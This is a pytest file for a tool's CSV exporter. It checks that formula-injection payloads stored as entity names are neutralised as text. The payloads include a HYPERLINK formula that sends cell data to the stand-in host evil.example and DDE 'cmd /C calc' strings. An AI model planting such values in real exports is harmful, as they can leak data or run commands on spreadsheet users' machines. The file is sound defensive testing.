"""Finding 8: a CSV export must not hand a spreadsheet a formula (=HYPERLINK(…), =cmd|…)."""

from __future__ import annotations

import csv
import io

import pytest
from typer.testing import CliRunner

from claimgraph.cli import app as cli_app
from claimgraph.export.tables import FORMULA_START, csv_safe, write_csv
from claimgraph.store.models import EntityRow

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _store_hostile(store) -> None:
    with store.session() as s:
        for i, name in enumerate(HOSTILE):
            s.add(EntityRow(id=f"ORG:hostile-{i}", name=name, type="ORG", aliases="[]"))
        s.add(EntityRow(id="ORG:fine", name="Acme Corp", type="ORG", aliases="[]"))


def _cells(data: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data)))


def _assert_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), f"formula-leading cell: {cell!r}"


def test_csv_export_neutralises_formula_cells(store):
    _store_hostile(store)
    out = io.BytesIO()
    with store.session() as s:
        write_csv(s, None, out, table="entities")
    rows = _cells(out.getvalue().decode())
    _assert_inert(rows)
    names = {r[0]: r[1] for r in rows[1:]}
    for i, name in enumerate(HOSTILE):
        assert names[f"ORG:hostile-{i}"] == "'" + name  # kept, shown as text
    assert names["ORG:fine"] == "Acme Corp"  # ordinary text untouched


def test_cli_csv_export_is_inert_too(db_path, store, tmp_path):
    _store_hostile(store)
    target = tmp_path / "entities.csv"
    r = CliRunner().invoke(
        cli_app, ["export", "csv", "--db", str(db_path), "--table", "entities", "-o", str(target)]
    )
    assert r.exit_code == 0, r.output
    _assert_inert(_cells(target.read_text(encoding="utf-8")))


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1", "'=1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("a=1", "a=1")],
)
def test_csv_safe(value, expected):
    assert csv_safe(value) == expected


def test_numbers_stay_numbers():
    assert csv_safe(-3) == -3 and csv_safe(-0.5) == -0.5 and csv_safe("") == ""
